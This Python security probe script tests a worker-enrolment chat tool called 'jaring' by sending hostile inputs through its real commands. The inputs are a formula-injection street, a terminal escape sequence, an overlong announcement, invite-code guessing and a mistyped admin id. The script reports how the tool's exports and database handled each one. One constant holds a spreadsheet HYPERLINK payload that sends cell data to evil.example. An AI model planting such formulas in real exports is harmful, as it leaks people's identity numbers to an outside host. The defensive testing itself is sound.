"""The edges tried as an attacker and a careless user would, from outside, on any checkout (issue 12):
the real `jaring` commands in child processes on a new SQLite file, then the files and the database
they left are read. Prints one line per probe, so a before and an after can be compared.

    uv run python -m bench.hostile_edges                   # this checkout
    uv run python -m bench.hostile_edges --project ../old  # another checkout, the same probes

Probes:
- two workers register through the chat, one with a street typed as a spreadsheet formula, one with
  an escape character in it; the enrolment export is written as xlsx (over an existing 0644 file) and
  csv: exit code, traceback printed or not, formula cells, control characters, rows, file mode;
- an admin types a 5000-character announcement whose 1000th character is a space: accepted (cut) or
  refused;
- one person tries 50 invite codes: how many were looked up, how many were recorded;
- `jaring admin add telgram:123`: accepted or refused."""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import re
import sqlite3
import stat
import subprocess
import tempfile
from dataclasses import dataclass
from pathlib import Path

from cryptography.fernet import Fernet

HERE = Path(__file__).resolve().parent.parent
FORMULA_STREET = '=HYPERLINK("http://evil.example/?d="&A2,"KTP")'
ESCAPE_STREET = "Jl. Batik\x1b[31m 3"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _registration(person: str, nik: str, name: str, born: str, street: str) -> list[tuple[str, str]]:
    answers = ["daftar", "setuju", nik, name, born, "medono", "ya", "rt 3", "05", street]
    answers += ["mbatik", "0812-3456-7890", "ya", "tidak tahu", "tidak", "kirim"]
    return [(person, text) for text in answers]


@dataclass(frozen=True, slots=True)
class Checkout:
    project: Path
    data_dir: Path

    def run(self, *args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("JARING_", "DATABASE_URL"))}
        env |= {"JARING_DATA_DIR": str(self.data_dir), "JARING_SECRET_KEY": KEY}
        command = ["uv", "run", "--quiet", "--project", str(self.project), "jaring", *args]
        return subprocess.run(
            command, input=stdin, capture_output=True, text=True, env=env, cwd=self.project, timeout=300, check=False
        )

    def chat(self, lines: list[tuple[str, str]]) -> list[dict[str, object]]:
        given = "".join(json.dumps({"from": who, "text": text}) + "\n" for who, text in lines)
        done = self.run("chat", "--jsonl", stdin=given)
        return [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]


KEY = Fernet.generate_key().decode()


def _xlsx_findings(path: Path) -> str:
    from openpyxl import load_workbook

    if not path.exists() or path.stat().st_size == 0:
        return "no file"
    book = load_workbook(path)
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    formulas = sum(1 for cell in cells if cell.data_type == "f")
    control = sum(1 for cell in cells if isinstance(cell.value, str) and CONTROL.search(cell.value))
    return f"rows {sheet.max_row - 1}, formula cells {formulas}, cells with control characters {control}"


def _csv_findings(path: Path) -> str:
    if not path.exists():
        return "no file"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))[1:]
    formulas = sum(1 for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@"))
    control = sum(1 for row in rows for cell in row if CONTROL.search(cell))
    return f"rows {len(rows)}, cells starting a formula {formulas}, cells with control characters {control}"


def _mode(path: Path) -> str:
    return oct(stat.S_IMODE(path.stat().st_mode)) if path.exists() else "-"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--project", type=Path, default=HERE)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        here = Checkout(args.project.resolve(), Path(folder) / "data")
        print(f"project: {here.project}")

        typo = here.run("admin", "add", "telgram:123")
        print(f"admin add telgram:123: exit {typo.returncode} ({'accepted' if typo.returncode == 0 else 'refused'})")

        here.run("admin", "add", "terminal:admin")
        script = _registration("w1", "3375014506850001", "Siti Aminah", "05-06-1985", FORMULA_STREET)
        script += _registration("w2", "3375011007800003", "Budi Santoso", "10-07-1980", ESCAPE_STREET)
        script += [("admin", "siaran"), ("admin", "1"), ("admin", "kata " * 999 + "kata.")]
        script += [("guess", f"kode ZZZZ{n:04d}") for n in range(50)]
        replies = here.chat(script)
        to_admin = [str(r["text"]) for r in replies if r["to"] == "admin"]
        announcement = to_admin[-1] if to_admin else ""
        refused = "maksimal" in announcement or "terlalu panjang" in announcement
        print(f"5000-character announcement: {'refused with its count' if refused else 'accepted'}")
        print(f"  the answer: {announcement[:110]!r}")

        guesses = [str(r["text"]) for r in replies if r["to"] == "guess"]
        waits = sum(1 for text in guesses if "Terlalu banyak" in text)
        with sqlite3.connect(here.data_dir / "jaring.db") as db:
            failed = db.execute("SELECT count(*) FROM audit_log WHERE action LIKE 'invite.%'").fetchone()[0]
        print(f"50 invite guesses: {len(guesses) - waits} looked up, {waits} told to wait, {failed} audit rows")

        output = Path(folder) / "daftar.xlsx"
        output.write_bytes(b"")
        output.chmod(0o644)
        xlsx = here.run("export", "enrolment", "--status", "all", "--format", "xlsx", "--output", str(output))
        print(
            f"xlsx export: exit {xlsx.returncode}, traceback {'yes' if 'Traceback' in xlsx.stderr else 'no'}, "
            f"mode {_mode(output)}, {_xlsx_findings(output) if xlsx.returncode == 0 else 'not written'}"
        )
        output_csv = Path(folder) / "daftar.csv"
        csv_run = here.run("export", "enrolment", "--status", "all", "--format", "csv", "--output", str(output_csv))
        print(f"csv export: exit {csv_run.returncode}, mode {_mode(output_csv)}, {_csv_findings(output_csv)}")
        print(f"data folder mode {_mode(here.data_dir)}, database mode {_mode(here.data_dir / 'jaring.db')}")


if __name__ == "__main__":
    main()
